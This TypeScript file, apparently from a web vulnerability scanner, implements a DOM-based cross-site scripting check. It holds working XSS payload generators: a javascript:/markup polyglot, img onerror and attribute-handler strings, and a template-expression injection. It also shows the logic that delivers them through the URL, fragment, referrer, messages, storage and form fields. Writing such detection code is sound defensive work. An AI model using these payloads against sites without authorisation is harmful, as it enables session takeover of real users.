import { createHash } from 'node:crypto';
import { setImmediate } from 'node:timers/promises';
import type { Localised } from '@rocca/contract/language';
import type { Exchange, WebRequest } from '@rocca/tools/web/model';
import { pageOf } from '@rocca/tools/web/scope';
import { cweReference, scored } from '../../core/definition.ts';
import { semaphore } from '../../core/semaphore.ts';
import { nodesOf } from '../attack/contexts.ts';
import { EVALUATES } from '../attack/payloads.ts';
import { textOf } from '../attack/probe.ts';
import { routesWithValues } from '../attack/route-values.ts';
import { couldRun } from '../attack/runnable.ts';
import { isLibrary, readScripts, type ScriptUse, sinksIn } from '../attack/script-sources.ts';
import { htmlAnswersOf, htmlPagesOf, keyOf, scriptsRunIn } from '../attack/site-pages.ts';
import { usualOf } from '../attack/usual.ts';
import {
  type AttackTools,
  PROOF_FUNCTION,
  type ProofBrowser,
  type ProofVisitor,
  type Site,
  type SiteCheck,
  type WebDefinition,
  type WebSighting,
} from '../check.ts';
import type { InjectionPoint } from '../crawl/point.ts';
import { templateOf } from '../crawl/template.ts';
import { filled } from '../evidence.ts';

const DEFINITION: WebDefinition = {
  key: 'xss-dom',
  family: 'Cross-site scripting',
  name: { it: 'Cross-site scripting nel DOM', en: 'DOM-based cross-site scripting' },
  description: {
    it: 'Uno script della pagina prende un valore che altri possono scegliere (indirizzo, frammento, provenienza, messaggi, memoria del browser) e ne fa codice o marcatura. Il server può non vederlo mai. Chi convince una persona ad aprire un indirizzo preparato può agire a suo nome sul sito e sottrarle la sessione.',
    en: 'A script of the page takes a value that others can choose (URL, fragment, referrer, messages, the browser’s storage) and turns it into code or markup. The server may never see it. An attacker who gets a person to open a crafted URL can act on the site in their name and take over their session.',
  },
  solution: {
    it: 'Scrivere i valori nella pagina con textContent o setAttribute su attributi innocui, mai con innerHTML, document.write o eval; accettare negli indirizzi soltanto http e https; controllare l’origine dei messaggi. Trusted Types, imposti con la Content-Security-Policy, trovano i punti che restano.',
    en: 'Write values into the page with textContent or harmless attributes, never with innerHTML, document.write or eval; accept only http and https in addresses; check the origin of messages. Trusted Types, enforced by the Content-Security-Policy, find the places that remain.',
  },
  scores: scored(['AV:N/AC:M/Au:N/C:N/I:P/A:N', 4.3], ['AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N', 6.1]),
  cves: [],
  cwes: ['CWE-79'],
  owasp: { y2021: 'A03:2021', y2025: 'A05:2025' },
  references: [
    cweReference(79),
    {
      id: 'OWASP DOM based XSS Prevention',
      link: 'https://cheatsheetseries.owasp.org/cheatsheets/DOM_based_XSS_Prevention_Cheat_Sheet.html',
    },
  ],
};

const VISITS_AT_ONCE = 4;
/** Of the names that a script reads, those whose values may stay in the browser. */
const MOST_KEPT = 2;
/** Of the same, those that are given every kind of value by themselves. */
const MOST_NAMED = 4;
const MOST_FRAGMENT_KEYS = 10;
const MORE_REPEATS = 2;
const FRAGMENT = 'fragment';
const SHOWS_VALUES = /search|find|query|track|result|view|detail|show|redirect|message|error|cerca|such|busc/i;
const MOST_WAYS = { low: 60, default: 90, medium: 150, high: 400, insane: 1000 } as const;
/** In all, and by the scripts that read a source; a way that was begun comes to its end. */
const MOST_VISITS = { low: 100, default: 150, medium: 200, high: 800, insane: 3000 } as const;
const MOST_VISITS_OF_SCRIPTS = { low: 30, default: 40, medium: 50, high: 200, insane: 1000 } as const;
/** Pages at which the same scripts are given the same: what they write to may not stand on the first. */
const MOST_PAGES_OF_SCRIPTS = { low: 2, default: 3, medium: 3, high: 6, insane: 10 } as const;

/**
 * Code, an address and markup at once: whichever a script makes of it, it runs. Closes what values are commonly put into.
 */
export const domPayload = (mark: string) => {
  const call = `${PROOF_FUNCTION}(/${mark}/)`;
  // Some scripts look for the scheme of an address anywhere in it.
  return `javascript:${call}//http://https:'"></select></textarea></title></style></script>--><img src=x onerror=${call}>`;
};

/** For what cuts a value, as servers do that are asked for it by a script. */
const shortPayload = (mark: string) => `<img src=x onerror=${PROOF_FUNCTION}(/${mark}/)>`;

/** Code in any kind of quotes, and in none. */
const codePayload = (mark: string) => {
  const call = `${PROOF_FUNCTION}(/${mark}/)`;
  return `/*'-${call}-'/*"-${call}-"/*\${${call}}/**/${call}`;
};

/** Attributes of the element whose value it ends, where no tag can begin: in either kind of quotes. */
const attributePayload = (mark: string) => {
  const call = `${PROOF_FUNCTION}(/${mark}/)`;
  const handlers = `autofocus tabindex=1 onfocus=${call} onerror=${call} onload=${call}`;
  return `x" ${handlers} x="' ${handlers} x='`;
};

/** The same where signs stay encoded but for single quotes, as those of a fragment do: behind a quote no blank is needed. */
const quotePayload = (mark: string) => {
  const call = `${PROOF_FUNCTION}(/${mark}/)`;
  return `x'onerror='${call}'onload='${call}'tabindex='1'autofocus='1'onfocus='${call}'x='`;
};

/** For frameworks that read expressions out of the page. */
const expressionPayload = (mark: string) => `{{constructor.constructor('${PROOF_FUNCTION}(/${mark}/)')()}}`;

/** An address that answers by itself with markup, for scripts that ask for one and show what comes. */
const markupAddress = (mark: string) => `data:text/html,${shortPayload(mark)}`;

/** Many servers refuse a path with an encoded slash. */
const pathPayload = (mark: string) => `<img src=x onerror=${PROOF_FUNCTION}\`${mark}\`>`;

const scriptAddress = (mark: string) => `data:text/javascript,${PROOF_FUNCTION}(/${mark}/)//`;

type Make = (mark: string) => string;

/** Values for what the scripts of a page make of them, the likely first. */
const payloadsFor = (
  { code, loads, base64, jsonKeys, asks, escapes, joins, fragment }: ScriptUse,
  hasExpressions: boolean,
): readonly Make[] => [
  domPayload,
  ...(escapes ? [attributePayload] : []),
  ...(joins && fragment ? [quotePayload] : []),
  ...(hasExpressions ? [expressionPayload] : []),
  ...(asks ? [markupAddress] : []),
  ...(code ? [codePayload] : []),
  ...(loads ? [scriptAddress] : []),
  ...(base64 ? [(mark: string) => btoa(domPayload(mark))] : []),
  ...(jsonKeys.length > 0
    ? [(mark: string) => JSON.stringify(Object.fromEntries(jsonKeys.map((key) => [key, domPayload(mark)])))]
    : []),
];

/** One way for a value into a page. */
interface Way {
  /** As reports name it: `fragment`, `message`, `header Referer`, a name of the query. */
  readonly parameter: string;
  readonly words: Localised;
  open(value: string): { readonly request: WebRequest; readonly visitor: ProofVisitor };
  /** The same way in at another route of the page, here one that the application does not define. */
  readonly elsewhere?: (route: string) => Way;
  /** Opened again without the value, for what the first visit left behind. */
  readonly twice?: boolean;
  /** Likely to show the value: worth a visit more, with a short one. */
  readonly likely?: boolean;
  /** That somebody else can write it is not shown. */
  readonly possible?: boolean;
  /** A person types it. */
  readonly typed?: boolean;
  /** The same value under several names at once: the ways by each of them. */
  readonly each?: readonly Way[];
  /** Where the server reads the same value. */
  readonly point?: InjectionPoint;
  /** What fits there in the place of the usual values. */
  readonly makes?: readonly Make[];
}

export const xssDom = {
  code: 'xss_dom',
  name: { it: 'Cross-site scripting nel DOM', en: 'DOM-based cross-site scripting' },
  kind: 'site',
  from: 'low',
  beside: true,
  definitions: [DEFINITION],
  async probe(site, tools) {
    const found = new Map<string, WebSighting>();
    const { strength } = tools.depth;
    let visits = 0;
    const visitsOf = new Map<string, number>();
    const attempt = async ({ page, way: planned, scripts, makes, readers }: Planned) => {
      const key = `${page} ${planned.parameter}`;
      if (tools.signal.aborted || found.has(key)) return false;
      const isOver = (visitsOf.get(readers) ?? 0) >= MOST_VISITS_OF_SCRIPTS[strength];
      if (isOver || visits >= MOST_VISITS[strength]) {
        limited.add(tools);
        return false;
      }
      const opens: ProofBrowser['opens'] = (...words) => {
        visits += 1;
        visitsOf.set(readers, (visitsOf.get(readers) ?? 0) + 1);
        return tools.browser.opens(...words);
      };
      const counting = { ...tools, browser: { ...tools.browser, opens } };
      const ran = await tryEach(planned, makes, hasOneSink(scripts), counting);
      for (const { way, sighting } of ran) {
        const parameter = (await isOfAnyRoute(way, tools)) ? FRAGMENT : way.parameter;
        const cause = causeOf(scripts, parameter);
        found.set(`${page} ${parameter}`, { ...sighting, place: { url: page, method: 'GET', parameter }, cause });
      }
      return ran.length > 0;
    };
    const all = await planOf(site, tools);
    const planned = all.slice(0, MOST_WAYS[strength]);
    if (planned.length < all.length) limited.add(tools);
    const inTurn = semaphore(VISITS_AT_ONCE);
    const usesStorage = ({ way }: Planned) => isKept(way);
    await Promise.all(planned.filter((one) => !usesStorage(one)).map((one) => inTurn(() => attempt(one))));
    // One after the other: what one visit leaves in the storage, another would find.
    const kept = new Set<string>();
    for (const one of planned.filter(usesStorage)) {
      // Where a way into the storage is known, the storage itself needs no word.
      if (one.way.possible && kept.has(one.page)) continue;
      if (await attempt(one)) kept.add(one.page);
    }
    // Of several ways to one sink, the first names it: a name that the site uses before one that was guessed.
    const seen = new Set(site.points.map(({ name }) => name));
    const isSeen = ({ place }: WebSighting) => Number(seen.has(place.parameter ?? ''));
    return [...found.values()].toSorted((one, other) => isSeen(other) - isSeen(one));
  },
  leftOut: (tools) => (limited.has(tools) ? 'limit_reached' : null),
} as const satisfies SiteCheck;

/** The value stays in the browser, for the next visit. */
const isKept = ({ twice, possible, typed }: Way) => twice === true || (possible === true && !typed);

/** Scans in which ways were left out for their number. */
const limited = new WeakSet<AttackTools>();

interface Planned {
  readonly page: string;
  readonly way: Way;
  readonly scripts: readonly string[];
  readonly makes: readonly Make[];
  /** The scripts that read the source: the same ones on another page do the same. */
  readonly readers: string;
  /** Pages before it at which the same scripts are given the same. */
  readonly before: number;
}

/** Scripts of a page are short; in longer ones the same kind of sink stands at many places. */
const SHORT = 3000;

const nameOf = (script: string) => createHash('sha256').update(script).digest('hex');

/** A short script with one kind of sink is the weakness, whichever way leads there; else the way tells. */
function causeOf(scripts: readonly string[], parameter: string): string {
  const one = hasOneSink(scripts) ? scripts.filter(writes) : null;
  return JSON.stringify(one ? one.map(nameOf) : [...scripts.map(nameOf).toSorted(), parameter]);
}

const writes = (script: string) => sinksIn(script).size > 0;

function hasOneSink(scripts: readonly string[]): boolean {
  const [script = '', ...more] = scripts.filter(writes);
  return more.length === 0 && script.length < SHORT && sinksIn(script).size === 1;
}

/** Every way into every page whose scripts could make something of it: first those by other scripts or sources. */
async function planOf(site: Site, { depth: { strength }, signal }: AttackTools): Promise<Planned[]> {
  const planned: Planned[] = [];
  const times = new Map<string, number>();
  const pagesOf = new Map<string, number>();
  const isLow = strength === 'low';
  const scriptsOfPage = new Map<string, Set<string>>();
  for (const exchange of pagesByWords(site)) {
    // Scripts are long to read: a stop must be heard between pages.
    await setImmediate();
    if (signal.aborted) break;
    // An application that is shown for every address is the same at each of them.
    if (new URL(exchange.request.url).search === '' && site.isMissing(exchange)) continue;
    const scripts = scriptsRunIn(exchange, site);
    const whole = readScripts(scripts);
    if (!whole.sink) continue;
    // What the page reads and makes of it says its own code; what it is written with may stand in a library.
    const use = { ...readScripts(scripts.filter((script) => !isLibrary(script))), sink: true };
    const same = scripts.map((script) => `${script.length} ${script.slice(0, 80)} ${script.slice(-80)}`).join('\n');
    // A word of its address may choose other scripts; where it does not, the page is the same.
    const known = scriptsOfPage.get(keyOf(exchange.request.url, site)) ?? new Set<string>();
    scriptsOfPage.set(keyOf(exchange.request.url, site), known);
    if (known.has(same)) continue;
    known.add(same);
    const before = times.get(same) ?? 0;
    times.set(same, before + 1);
    const page = pageOf(exchange.request.url);
    const plain = { ...exchange.request, headers: [], body: null };
    const isSeldom = before < (isLow ? 3 : 10);
    const asked = queryWays(plain, use, { site, keys: isSeldom ? use.queryKeys : [] });
    const own = isSeldom ? waysInto(plain, use, site) : [];
    const text = exchange.response ? textOf(exchange.response.body) : '';
    const routed =
      before === 0
        ? [
            ...routeWays(plain, withLinkedRoutes(use, text), isLow ? 8 : 40),
            ...valueWays(plain, use, text, scripts),
            ...typedWays(plain, use, text),
          ]
        : [];
    const makes = payloadsFor(use, EVALUATES.test(text));
    // The same scripts do the same with a press on the next page.
    const presses = (use.presses || /\sonclick\s*=/i.test(text)) && !use.channels && !(isLow && before > 0);
    const add = (way: Way, most: number, usual: readonly Make[]) => {
      const readers = readersOf(way, scripts);
      const key = JSON.stringify([readers, way.parameter, way.words, way.twice ?? false]);
      const at = pagesOf.get(key) ?? 0;
      pagesOf.set(key, at + 1);
      if (at >= most) return;
      const shown = presses && !way.typed ? pressing(way) : way;
      planned.push({ page, way: shown, scripts, makes: way.makes ?? usual, readers, before: at });
    };
    const ways = [...asked, ...own, ...routed];
    for (const way of ways) add(way, MOST_PAGES_OF_SCRIPTS[strength], makes);
    if (before > 0) continue;
    const named = new Set(ways.map(({ parameter }) => parameter));
    const ofLibraries = [...queryWays(plain, whole, { site, keys: [] }), ...waysInto(plain, whole, site)];
    for (const way of ofLibraries) if (!named.has(way.parameter)) add(way, 1, [domPayload]);
  }
  return planned.toSorted((one, other) => one.before - other.before);
}

/** Of one page with other words in its address. */
const MOST_OF_A_PAGE = 4;

/** Pages, also one with a few other words for the same names. The last of those that differ in nothing else. */
function pagesByWords(site: Site): Exchange[] {
  const pages = htmlPagesOf(site);
  const others = htmlAnswersOf(site).toReversed();
  const exactOf = ({ request }: Exchange) => templateOf('GET', request.url).exact;
  const seen = new Set(pages.map(exactOf));
  const times = new Map<string, number>();
  return [
    ...pages,
    ...others.filter((exchange) => {
      const key = keyOf(exchange.request.url, site);
      const count = times.get(key) ?? 1;
      if (count >= MOST_OF_A_PAGE || seen.has(exactOf(exchange))) return false;
      seen.add(exactOf(exchange));
      times.set(key, count + 1);
      return true;
    }),
  ];
}

/** The scripts that read what a way brings and write something; without such, all that do either. */
function readersOf(way: Way, scripts: readonly string[]): string {
  const uses = scripts.map((script) => ({ script, use: readScripts([script]) }));
  const reading = uses.filter(({ use }) => isReadBy(way, use));
  const whole = reading.filter(({ use }) => use.sink);
  const readers = whole.length > 0 ? whole : uses.filter((one) => one.use.sink || reading.includes(one));
  return [...new Set(readers.map(({ script }) => nameOf(script)))].toSorted().join(' ');
}

function isReadBy({ parameter, typed }: Way, use: ScriptUse): boolean {
  if (typed) return use.typed;
  if (parameter.startsWith(FRAGMENT)) return use.fragment;
  if (parameter.startsWith('storage ')) return use.localKeys.length > 0 || use.sessionKeys.length > 0;
  if (parameter === 'header Referer') return use.referrer;
  if (parameter === 'window.name') return use.windowName;
  if (parameter === 'message') return use.message;
  return parameter === 'path' ? use.path : use.query;
}

/** The same way, with what waits for a person pressed. */
const pressing = (way: Way): Way => ({
  ...way,
  ...(way.each && { each: way.each.map(pressing) }),
  open(value) {
    const { request, visitor } = way.open(value);
    return { request, visitor: { ...visitor, presses: true } };
  },
});

function waysInto(plain: WebRequest, use: ScriptUse, site: Site): Way[] {
  const visiting = visitingOf(plain);
  const ways: Way[] = [];
  if (use.fragment) {
    ways.push(
      visiting(FRAGMENT, { it: 'il frammento dell’indirizzo', en: 'the fragment of the address' }, (value) => ({
        fragment: encodeFragment(value),
      })),
    );
    const keys = [...new Set([...use.fragmentKeys, ...use.queryKeys])].slice(0, MOST_FRAGMENT_KEYS);
    const withKeys = (begin: string) =>
      visiting(
        FRAGMENT,
        filled(
          { it: 'il frammento dell’indirizzo ({keys})', en: 'the fragment of the address ({keys})' },
          { keys: keys.join(', ') },
        ),
        (value) => ({ fragment: begin + keys.map((key) => `${key}=${encodeURIComponent(value)}`).join('&') }),
      );
    for (const begin of use.fragmentBeginnings)
      ways.push(
        visiting(
          FRAGMENT,
          filled(
            { it: 'il frammento dell’indirizzo, dopo #{begin}', en: 'the fragment of the address, behind #{begin}' },
            { begin },
          ),
          (value) => ({ fragment: begin + encodeFragment(value) }),
        ),
      );
    if (keys.length > 0) ways.push(withKeys(''));
    if (keys.length > 0 && use.fragmentQuery) ways.push(withKeys('/?'));
  }
  if (use.referrer) {
    const names = [...new Set([...use.queryKeys, ...use.fragmentKeys])].slice(0, MOST_FRAGMENT_KEYS);
    const queryOf = (value: string) =>
      names.length === 0
        ? encodeURIComponent(value)
        : names.map((name) => `${name}=${encodeURIComponent(value)}`).join('&');
    ways.push(
      visiting('header Referer', { it: 'il referrer', en: 'the referrer' }, (value) => ({
        referrer: `${site.origin}${site.root}?${queryOf(value)}`,
      })),
    );
  }
  if (use.path) ways.push(pathWay(plain));
  if (use.message) ways.push(messageWay(visiting, use));
  if (use.windowName)
    ways.push(
      visiting('window.name', { it: 'il nome della finestra', en: 'the name of the window' }, (windowName) => ({
        windowName,
      })),
    );
  ways.push(...storageWays(visiting, use));
  return ways;
}

/** Those in which the browser takes any text. */
const TYPED_TYPES = /^(?:text|search|tel|password)?$/i;
const MOST_TYPED_FIELDS = 6;

/** Names or ids of the text fields that the markup of a page has. */
function typedFieldsIn(page: string): string[] {
  const names = nodesOf(page).flatMap((node) => {
    if (!('tagName' in node) || !/^(?:input|textarea)$/.test(node.tagName)) return [];
    const of = (name: string) => node.attrs.find((one) => one.name === name)?.value ?? '';
    const isText = node.tagName === 'textarea' || TYPED_TYPES.test(of('type').trim());
    return isText && of('pattern') === '' ? [of('name') || of('id')] : [];
  });
  return [...new Set(names)].filter((name) => name !== '').slice(0, MOST_TYPED_FIELDS);
}

/** What a person types into the fields of a page, for scripts that write it there: all at once, then field by field. */
function typedWays(plain: WebRequest, use: ScriptUse, page: string): Way[] {
  const fields = use.typed && !use.channels ? typedFieldsIn(page) : [];
  const [first] = fields;
  if (first === undefined) return [];
  const visiting = visitingOf(plain);
  const into = (names: readonly string[]): Way => ({
    ...visiting(
      names.length === 1 ? (names[0] ?? '') : 'fields',
      filled({ it: 'ciò che si scrive in {names}', en: 'what is typed into {names}' }, { names: names.join(', ') }),
      (value) => ({ typed: { value, fields: names } }),
    ),
    ...{ typed: true, possible: true },
    makes: [
      domPayload,
      ...(use.escapes ? [attributePayload] : []),
      ...(/\smaxlength\s*=/i.test(page) ? [shortPayload] : []),
    ],
  });
  return [fields.length === 1 ? into(fields) : { ...into(fields), each: fields.map((name) => into([name])) }];
}

/** As the last part of the path, where a page is shown for any: behind a name that has an ending it is one more part. */
function pathWay(plain: WebRequest): Way {
  const { origin, pathname } = new URL(plain.url);
  const last = pathname.slice(pathname.lastIndexOf('/') + 1);
  const isName = pathname.split('/').length > 2 && !last.includes('.');
  const before = isName ? pathname.slice(0, -last.length || undefined) : `${pathname.replace(/\/$/, '')}/`;
  return {
    parameter: 'path',
    words: { it: 'il percorso dell’indirizzo', en: 'the path of the address' },
    open: (value) => ({
      request: { ...plain, url: `${origin}${before}${encodeURIComponent(value)}` },
      visitor: {},
    }),
    makes: [pathPayload],
  };
}

type Visiting = (parameter: string, words: Localised, bring: (value: string) => ProofVisitor) => Way;

const visitingOf =
  (request: WebRequest): Visiting =>
  (parameter, words, bring) => ({ parameter, words, open: (value) => ({ request, visitor: bring(value) }) });

/** Pages within the page, with their own query behind the `#`: those first that are likely to show what they are given. */
function routeWays(plain: WebRequest, { fragment, routes, queryKeys }: ScriptUse, most: number): Way[] {
  if (!fragment || queryKeys.length === 0) return [];
  const likely = routes.filter((route) => SHOWS_VALUES.test(route));
  const visiting = visitingOf(plain);
  const wayTo = (route: string): Way =>
    visiting(
      `${FRAGMENT} #/${route}`,
      filled({ it: 'la query di #/{route}', en: 'the query of #/{route}' }, { route }),
      (value) => ({
        fragment: `/${route}?${queryKeys.map((key) => `${key}=${encodeURIComponent(value)}`).join('&')}`,
      }),
    );
  return [...new Set([...likely, ...routes])]
    .slice(0, most)
    .map((route) => ({ ...wayTo(route), likely: likely.includes(route), elsewhere: wayTo }));
}

/** Pages within the page that take a value as the last part of the fragment; a router parts it at every slash. */
function valueWays(plain: WebRequest, { fragment }: ScriptUse, page: string, scripts: readonly string[]): Way[] {
  const visiting = visitingOf(plain);
  const routes = fragment ? routesWithValues(page, scripts) : [];
  return routes.map((route) => ({
    ...visiting(
      `${FRAGMENT} #${route}`,
      filled(
        { it: 'il frammento dell’indirizzo, dopo #{route}', en: 'the fragment of the address, behind #{route}' },
        { route },
      ),
      (value) => ({ fragment: route + encodeFragment(value) }),
    ),
    makes: [domPayload, pathPayload],
  }));
}

const LINKED_ROUTE = /\shref\s*=\s*["']?#!?\/([\w/-]{1,60})(?:\?([\w-]{1,40})=)?/gi;

/** With the pages within the page that its links name, and what they give them. */
function withLinkedRoutes(use: ScriptUse, page: string): ScriptUse {
  const links = use.fragment ? [...page.matchAll(LINKED_ROUTE)] : [];
  // Those first that are given something.
  const routes = links.toSorted((one, other) => Number(other[2] !== undefined) - Number(one[2] !== undefined));
  return {
    ...use,
    routes: [...new Set([...routes.map(([, route = '']) => route), ...use.routes])].slice(0, MOST_ROUTES),
    queryKeys: [...new Set([...links.flatMap(([, , name]) => name ?? []), ...use.queryKeys])].slice(0, MOST_ROUTES),
  };
}

const MOST_ROUTES = 40;

interface Names {
  readonly site: Site;
  /** Names that scripts look for, beside those that were seen in addresses. */
  readonly keys: readonly string[];
}

function queryWays(plain: WebRequest, use: ScriptUse, { site, keys }: Names): Way[] {
  if (!use.query) return [];
  const page = pageOf(plain.url);
  const ofPoints = site.points.filter(
    ({ kind, request }) => kind === 'query' && request.method === 'GET' && pageOf(request.url) === page,
  );
  // Last those whose other words are those of the page.
  const { exact } = templateOf('GET', plain.url);
  const isOfPage = ({ request }: InjectionPoint) => Number(templateOf('GET', request.url).exact === exact);
  const pointBy = new Map(
    ofPoints.toSorted((one, other) => isOfPage(one) - isOfPage(other)).map((point) => [point.name, point]),
  );
  const sent = new Map([...pointBy].map(([name, { request }]) => [name, request.url]));
  const seen = new Set([...sent.keys(), ...new URL(plain.url).searchParams.keys()]);
  const guessed = keys.filter((key) => !seen.has(key));
  const remembers = use.localKeys.length > 0 || use.sessionKeys.length > 0;
  const wayBy = (names: readonly string[], parameter: string): Way => ({
    parameter,
    words: filled(
      { it: '{name} nella query dell’indirizzo', en: '{name} in the query of the address' },
      { name: names.join(', ') },
    ),
    open(value) {
      // With all that its form sends: half a form may do what nobody asked for, as to take an empty password.
      const url = names.reduce(
        (made, name) => withQuery(made, name, value, use.cutsPairs),
        sent.get(names[0] ?? '') ?? plain.url,
      );
      return { request: { ...plain, url }, visitor: {} };
    },
  });
  const keptBy = (way: Way): Way => ({
    ...way,
    words: filled(
      {
        it: '{name} nella query, conservato nel browser fino alla visita successiva',
        en: '{name} in the query, kept in the browser until the next visit',
      },
      { name: way.parameter },
    ),
    twice: true,
  });
  const single = [...seen].map((name): Way => {
    const point = pointBy.get(name);
    return { ...wayBy([name], name), ...(point && { point }) };
  });
  // A script that reads the whole query does so whatever the name is; of the whole address the fragment is a part.
  const isNamed = guessed.length > 0 || seen.size > 0 || use.fragment || (use.wholeQuery && !use.cutsPairs);
  const unnamed = isNamed ? guessed : ['q'];
  const joint =
    unnamed.length === 0
      ? []
      : [
          {
            ...wayBy(unnamed, 'query'),
            ...(guessed.length > 0 && { each: guessed.map((name) => wayBy([name], name)) }),
          },
        ];
  const whole: Way = {
    parameter: 'query',
    words: { it: 'l’intera query dell’indirizzo', en: 'the whole query of the address' },
    open: (value) => ({ request: { ...plain, url: `${page}?${encodeURI(value)}` }, visitor: {} }),
  };
  const kept = remembers ? [...seen, ...guessed.slice(0, MOST_KEPT)].map((name) => keptBy(wayBy([name], name))) : [];
  return [...single, ...joint, ...(use.wholeQuery ? [whole] : []), ...kept];
}

/** As a browser writes it that is given the address: scripts that read it undo no more than that. */
function withQuery(address: string, name: string, value: string, cutsPairs: boolean): string {
  const url = new URL(address);
  url.searchParams.delete(name);
  const written = `${encodeURIComponent(name)}=${encodeURI(value).replace(cutsPairs ? /[&#+=]/g : /[&#+]/g, encodeURIComponent)}`;
  url.search = url.search === '' ? written : `${url.search}&${written}`;
  return url.href;
}

/** As text, as objects with what handlers look for, and as JSON of those: all in one visit. */
function messageWay(visiting: Visiting, { messageKeys }: ScriptUse): Way {
  const most = Math.max(1, ...messageKeys.map(({ words }) => words.length));
  const objects = (value: string) =>
    messageKeys.length === 0
      ? []
      : Array.from({ length: Math.min(most, MOST_MESSAGES) }, (_, at) => message(at, value));
  const message = (at: number, value: string) => {
    const whole: Record<string, unknown> = {};
    for (const { path, words } of messageKeys.toSorted((one, other) => one.path.length - other.path.length)) {
      const names = path.split('.');
      const last = names.pop() ?? '';
      const within = names.reduce((object, name) => {
        if (typeof object[name] !== 'object' || object[name] === null) object[name] = {};
        return object[name] as Record<string, unknown>;
      }, whole);
      within[last] = words.length === 0 ? value : words[at % words.length];
    }
    return whole;
  };
  return visiting(
    'message',
    filled(
      { it: 'un messaggio di un’altra origine{keys}', en: 'a message of another origin{keys}' },
      { keys: messageKeys.length === 0 ? '' : ` (${messageKeys.map(({ path }) => path).join(', ')})` },
    ),
    (value) => ({ messages: [value, ...objects(value), ...objects(value).map((object) => JSON.stringify(object))] }),
  );
}

const MOST_MESSAGES = 5;

function storageWays(visiting: Visiting, { localKeys, sessionKeys }: ScriptUse): Way[] {
  const filled = (keys: readonly string[], value: string) => Object.fromEntries(keys.map((key) => [key, value]));
  const [key] = [...localKeys, ...sessionKeys];
  if (key === undefined) return [];
  const bring = (value: string) => ({
    storage: { local: filled(localKeys, value), session: filled(sessionKeys, value) },
  });
  return [
    {
      ...visiting(`storage ${key}`, { it: 'la memoria del browser', en: 'the storage of the browser' }, bring),
      possible: true,
    },
  ];
}

interface Ran {
  readonly way: Way;
  readonly sighting: Omit<WebSighting, 'place'>;
}

/**
 * A way by several names is tried as one, and then by each of them: one may keep the others from their turn, and where
 * there are several sinks each name may lead to another.
 */
async function tryEach(
  way: Way,
  makes: readonly Make[],
  isOneSink: boolean,
  tools: AttackTools,
): Promise<readonly Ran[]> {
  const tryOne = async (one: Way, values: readonly Make[]): Promise<readonly Ran[]> => {
    const sighting = await tryWay(one, values, tools);
    return sighting ? [{ way: one, sighting }] : [];
  };
  if (!way.each) return tryOne(way, makes);
  const make = await firstThatRuns(way, makes, tools);
  // Alone it would be the same visit.
  if (!make && way.each.length === 1) return [];
  const ran: Ran[] = [];
  for (const [at, one] of way.each.entries()) {
    const isTriedWhole = at < MOST_NAMED && !(make && (isOneSink || way.each.length === 1));
    if (!make && !isTriedWhole) break;
    const others = isTriedWhole ? makes.filter((other) => other !== make) : [];
    ran.push(...(await tryOne(one, make ? [make, ...others] : others)));
    if (ran.length > 0 && isOneSink) break;
  }
  return ran.length > 0 || !make ? ran : tryOne(way, [make]);
}

async function firstThatRuns(way: Way, makes: readonly Make[], tools: AttackTools): Promise<Make | null> {
  for (const make of makes) if ((await visit(way, make, tools)).executed) return make;
  return null;
}

/** The server itself puts it there: that is another weakness, with its own check. Asked where it shows the value at all. */
async function isWrittenByServer({ point, open }: Way, make: Make, tools: AttackTools): Promise<boolean> {
  const usual = point && (await usualOf(point, tools));
  if (!usual?.other.response || !textOf(usual.other.response.body).includes(usual.word)) return false;
  const mark = tools.token();
  const { response } = await tools.request(open(make(mark)).request);
  return response !== null && couldRun(textOf(response.body), mark);
}

/** Executed twice with marks of their own, and not with a word that calls nothing. */
async function tryWay(
  way: Way,
  [usual = domPayload, ...others]: readonly Make[],
  tools: AttackTools,
): Promise<Omit<WebSighting, 'place'> | null> {
  if (await isWrittenByServer(way, usual, tools)) return null;
  let make = usual;
  let first = await visit(way, make, tools);
  // Another visit may have written something else in between: what is kept is kept for all pages of the site.
  if (!first.executed && way.twice) first = await visit(way, make, tools);
  for (const other of isKept(way) ? [] : others) {
    if (first.executed) break;
    make = other;
    first = await visit(way, make, tools);
  }
  if (!first.executed && way.likely) {
    make = shortPayload;
    first = await visit(way, make, tools);
  }
  if (!first.executed) return null;
  const asked = await tools.request(first.request);
  // The server itself put it there: that is another weakness, with its own check.
  if (asked.response && couldRun(textOf(asked.response.body), first.mark)) return null;
  let again = await visit(way, make, tools);
  // On a busy machine a page may not come as far within its time as it did before.
  for (let left = MORE_REPEATS; !again.executed && left > 0; left -= 1) again = await visit(way, make, tools);
  if (!again.executed) return null;
  const control = await visit(way, (mark) => mark, tools);
  if (control.executed) return null;
  return {
    key: DEFINITION.key,
    ...(way.possible ? { possible: true } : {}),
    evidence: filled(
      {
        it: 'Gli script della pagina hanno eseguito nel browser {first}, e poi {again}. Origine: {way}. Il valore innocuo {word} non ha fatto nulla.{unseen}',
        en: 'Scripts of the page ran {first} in the browser, and then {again}. Source: {way}. The harmless value {word} did nothing.{unseen}',
      },
      {
        first: first.value,
        again: again.value,
        way: way.words,
        word: control.value,
        unseen: way.typed ? TYPED_BY_PERSON : way.possible ? NOT_SEEN_BY_OTHERS : '',
      },
    ),
    messages: [{ exchange: asked, marks: [], role: 'proof' }],
  };
}

const NOT_SEEN_BY_OTHERS = {
  it: ' Non si è visto come altri potrebbero scriverlo lì.',
  en: ' How somebody else could write it there was not seen.',
};
const TYPED_BY_PERSON = {
  it: ' Il valore è stato scritto nel campo come farebbe una persona. Da verificare se altri possono farlo arrivare lì, per esempio con un collegamento o un testo da incollare.',
  en: ' The value was typed into the field as a person would. To be verified: whether others can bring it there, by a link or a text to be pasted for instance.',
};

/** A router shows some page for those it does not know: what runs there is one weakness, whatever page is named. */
async function isOfAnyRoute({ elsewhere }: Way, tools: AttackTools): Promise<boolean> {
  return elsewhere !== undefined && (await visit(elsewhere(tools.token()), domPayload, tools)).executed;
}

/** Most visits of this check show nothing: proofs of what was seen already come first. */
const VISITOR: ProofVisitor = { interact: true, turn: 'last' };

async function visit(way: Way, make: (mark: string) => string, { browser, token }: AttackTools) {
  const mark = token();
  const value = make(mark);
  const { request, visitor } = way.open(value);
  const run = await browser.opens(request, { ...visitor, ...VISITOR }, mark);
  const later = way.twice && !run.executed ? await browser.opens(withoutQuery(request), VISITOR, mark) : null;
  const headers: WebRequest['headers'] = visitor.referrer === undefined ? [] : [['Referer', visitor.referrer]];
  return { request: { ...request, headers }, mark, value, executed: run.executed || later?.executed === true };
}

const withoutQuery = (request: WebRequest) => ({ ...request, url: pageOf(request.url) });

/** What a browser leaves as it is in a fragment stays readable for scripts that do not decode it. */
